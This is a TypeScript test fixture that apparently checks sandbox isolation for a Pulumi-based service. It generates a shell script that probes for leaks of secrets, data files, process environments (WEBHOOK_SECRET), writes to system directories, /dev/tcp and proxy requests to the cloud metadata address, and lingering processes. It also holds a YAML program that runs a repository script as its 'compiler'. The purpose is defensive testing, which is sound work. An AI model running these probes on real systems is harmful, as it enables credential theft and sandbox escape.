/** What a hostile repository brings: shell that tries everything at once and says LEAK where it gets through. */

export interface Targets {
  readonly dataDir: string;
  readonly serverPid: number;
  readonly serverPort: number;
  /** Of a listener on all addresses of this machine that counts who comes. */
  readonly listenerPort: number;
  /** One of this machine's own addresses that is not loopback; loopback when there is none. */
  readonly ownAddress: string;
  /** Another run that waits with its workspace. */
  readonly otherRun: string;
  /** In names of files and arguments of processes that it leaves. */
  readonly mark: string;
}

export function attackScript(targets: Targets): string {
  const { dataDir, serverPid, serverPort, listenerPort, ownAddress, otherRun, mark } = targets;
  const readable = [
    `${dataDir}/slipway.db`,
    `${dataDir}/secret.key`,
    `${dataDir}/workspaces/${otherRun}/tree/Pulumi.yaml`,
    `${dataDir}/../app.pem`,
    `/workspace/../${otherRun}/tree/Pulumi.yaml`,
    `/proc/${serverPid}/environ`,
    `/proc/${serverPid}/root/etc/passwd`,
    `/proc/1/root${dataDir}/secret.key`,
    `/proc/1/cwd/secret.key`,
  ];
  const writable = [dataDir, '/etc', '/usr', '/usr/local/bin', '/', '/opt', '/var', '/run', '/workspace/..'];
  const places = [
    `127.0.0.1 ${serverPort}`,
    `127.0.0.1 ${listenerPort}`,
    `${ownAddress} ${listenerPort}`,
    '169.254.169.254 80',
  ];
  /** Each is asked for twice. */
  const hosts = [...places, `localhost ${listenerPort}`, `[::1] ${listenerPort}`, `0.0.0.0 ${listenerPort}`];
  return [
    ...readable.map((path) => `head -c 1 "${path}" >/dev/null 2>&1 && echo "LEAK read ${path}"`),
    `ls "${dataDir}" >/dev/null 2>&1 && echo "LEAK list ${dataDir}"`,
    `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -q '^WEBHOOK_SECRET=' && echo "LEAK environment"`,
    ...writable.map((path) => `(echo x > "${path}/${mark}") 2>/dev/null && echo "LEAK write ${path}"`),
    ...places.map(
      (place) =>
        `timeout 3 bash -c 'exec 3<>/dev/tcp/${place.replace(' ', '/')}' 2>/dev/null && echo "LEAK direct ${place}"`,
    ),
    ...hosts.flatMap((place) => {
      const address = place.replace(' ', ':');
      return [
        `through_proxy "CONNECT ${address} HTTP/1.1" "${address}"`,
        `through_proxy "GET http://${address}/latest/meta-data/ HTTP/1.1" "${address}"`,
      ];
    }),
    `setsid nohup sleep ${mark} >/dev/null 2>&1 & disown`,
    `(setsid sleep ${mark} >/dev/null 2>&1 &) &`,
    'echo "attack-over, $refused refusals"',
    '',
  ].join('\n');
}

/** To be sourced before: asks the proxy of the run for something that is not to be had. */
export const proxyFunction = [
  'through_proxy() {',
  '  exec 3<>/dev/tcp/127.0.0.1/3128 || { echo "no proxy"; return; }',
  '  printf "%s\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" "$1" "$2" >&3',
  '  IFS= read -r -t 10 answer <&3',
  '  case "$answer" in *" 200 "*) echo "LEAK proxy $1" ;; *" 4"[0-9][0-9]*|*" 5"[0-9][0-9]*) refused=$((refused + 1)) ;;',
  '    *) echo "no answer for $1: $answer" ;; esac',
  '  exec 3>&-',
  '}',
  'refused=0',
  '',
].join('\n');

/** A program whose "compiler" is a script of the repository, so that it runs inside of `pulumi preview` itself. */
export const hostileProgram = [
  'name: scenario',
  'runtime:',
  '  name: yaml',
  '  options:',
  '    compiler: bash compile.sh',
  '',
].join('\n');

export const plainSource = [
  'name: scenario',
  'runtime: yaml',
  'resources:',
  '  one:',
  '    type: pulumi:Stash',
  '    properties:',
  '      input: first',
].join('\n');
